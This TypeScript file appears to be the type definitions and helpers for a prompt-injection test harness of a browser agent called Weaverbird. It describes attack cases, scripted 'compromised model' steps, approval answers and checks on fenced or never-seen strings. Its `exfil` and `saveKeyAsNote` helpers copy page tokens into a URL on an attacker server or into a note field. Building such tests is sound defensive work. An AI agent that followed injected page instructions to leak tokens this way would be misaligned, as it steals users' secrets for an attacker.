import type { Page } from 'playwright-core';
import type { Mode } from '../../../shared/modes';
import { step, type ScriptStep, type ScriptView } from '../../fake-providers/script';

/** Where an attack case runs. `run` is unique per case: pages key their storage by it. */
export interface Urls {
  /** The attacker's recording server: another port on 127.0.0.1, so another origin. */
  attacker: string;
  /** A second site (127.0.0.2): cross-origin frames, "another logged-in site". */
  partner: string;
  server: string;
  run: string;
  /** A path on the fixture server with this case's `run` query parameter added. */
  page(path: string): string;
}

/** What the user answers the n-th approval prompt with. */
type Decision = 'deny' | 'approve' | 'trust';

export interface AttackTask {
  task: string;
  steps: ScriptStep[];
  /** The compromised model's final answer, rendered by the real panel (Markdown aimed at it). */
  final?: (v: ScriptView) => string;
  /** Answers to this task's approval prompts in order; missing ones are "deny". */
  approvals?: Decision[];
  /** What the user types into this task's `ask_user` cards, in order; missing ones are "no". */
  answers?: string[];
  /** The user's answers to this task's `propose_plan` cards, in order; missing ones are "cancel". */
  plans?: ('approve' | 'cancel')[];
}

/** What a case may do before one of its tasks starts, as the user (or a page) would. */
interface BeforeTask {
  page: Page;
  u: Urls;
  /** "Ask Weaverbird about this" on a selection of the tab's current page (`wb.attach`, the menu's own path). */
  attach(selectionText: string): Promise<void>;
  /** A text file the user attached with the panel's "Attach file" (it becomes the task's file_1). */
  attachFile(name: string, text: string): Promise<void>;
}

/** A card that pauses the task for its user (ask_user, propose_plan), as the panel shows it. */
export type CardKind = 'question' | 'plan';

export interface Attack {
  id: string;
  /** The threat-model item this attacks (1–15, docs/security.md "Threat model"), or 0 for the extra injection vectors. */
  item: number;
  what: string;
  /** Fixture path (may carry a query); served with {{ATTACKER}}/{{PARTNER}}/{{SERVER}} filled in. */
  page: string;
  /** Open the page as http://shop.example:<port> (mapped to 127.0.0.1) instead of 127.0.0.1. */
  publicHost?: boolean;
  modes: Mode[];
  /** Earlier tasks are the user's own (their approvals are legitimate); the last one is the attack. */
  tasks: (u: Urls) => AttackTask[];
  /** Act/Dev: the user must be asked at least this often during the attack task (default 0). */
  asks?: number;
  /** Page strings that may reach the model only inside the nonce fence. */
  fenced?: string[];
  /**
   * Strings that may reach the attack task's model requests only inside the fence, in any message
   * (earlier turns of the tab included, where `fenced` looks at tool results and prompts only).
   */
  fencedInHistory?: string[];
  /** Strings that must never reach the model at all. */
  neverSeen?: string[];
  /** Some tool result of the attack task must match (e.g. the stale-ref refusal). */
  result?: RegExp;
  /** Every approval text must be at most this long (page labels are capped). */
  maxDescription?: number;
  /** Act/Dev: some approval text must match (the whole destination is shown, never cut). */
  describes?: RegExp;
  /**
   * No approval text may match: a prompt the user should never have been shown (a read of Chrome's
   * error page for a load the guard refused and is taking back, say).
   */
  neverAsks?: RegExp;
  /** Writes (POST/PUT/PATCH/DELETE) the attack task may legitimately make to the page's own servers. */
  writes?: number;
  /** What "the page's state" means (default: tab URL, every frame's #state, open tabs, writes). */
  state?: (page: Page) => Promise<string>;
  /** Runs before the page opens; returns a cleanup. */
  setup?: (u: Urls, open: (url: string) => Promise<Page>) => Promise<() => Promise<void>>;
  /** Runs before the n-th task starts (before the page state is taken for the attack task). */
  beforeTask?: (ctx: BeforeTask, n: number) => Promise<void>;
  /** The attack task's own message to the model, outside the fence, must match (e.g. an attachment's label). */
  taskLabel?: RegExp;
  /** Runs when the n-th approval prompt shows, before it is answered. */
  beforeDecision?: (page: Page, u: Urls, n: number) => Promise<void>;
  /** Settings over the scripted model's defaults (e.g. `tier: 'full'`, `planFirst: true`). */
  settings?: Record<string, unknown>;
  /**
   * Leave JS dialogs open, as a person who has not answered yet (Playwright dismisses them itself
   * when nothing listens), so the agent meets them.
   */
  keepDialogs?: boolean;
  /** The page is a PDF (Chrome's viewer runs no page scripts): open it without waiting for them. */
  pdf?: boolean;
  /** How the attack task may end besides "done" (a cancelled plan stops it). */
  endsAs?: 'done' | 'stopped';
  /** Runs on the panel page while a question or plan card shows; returns what is wrong with the card. */
  cardProbe?: (panel: Page, kind: CardKind) => Promise<string[]>;
  /** Runs on the panel page after the answer rendered (e.g. the sanitizer-bypassed CSP probe). */
  panelProbe?: (panel: Page, u: Urls) => Promise<void>;
}

export const read = step('get_accessibility_tree', {});
export const nav = (url: string): ScriptStep => step('navigate', { url });
export const click = (name: RegExp, role = /.*/): ScriptStep =>
  step('click_ax', (v) => ({ ref_id: v.ref(role, name) }));
/** The page's secret, as the compromised model copies it into a URL. */
export const secret = (v: ScriptView): string => v.grabOr(/((?:TOKEN|MAIL|OAUTH)-[A-Z0-9-]+)/, 'nothing-found');
export const exfil = (base: string, path: string): ScriptStep =>
  step('navigate', (v) => ({ url: `${base}${path}?d=${secret(v)}` }));
/** The task of the attacks where a page sends on what the agent typed: the secret typed as a note, then `after`. */
export const saveKeyAsNote = (...after: ScriptStep[]): AttackTask[] => [
  {
    task: 'Save the key as a note.',
    steps: [read, step('type_ax', (v) => ({ ref_id: v.ref(/textbox/, /Note/), text: secret(v) })), ...after],
  },
];
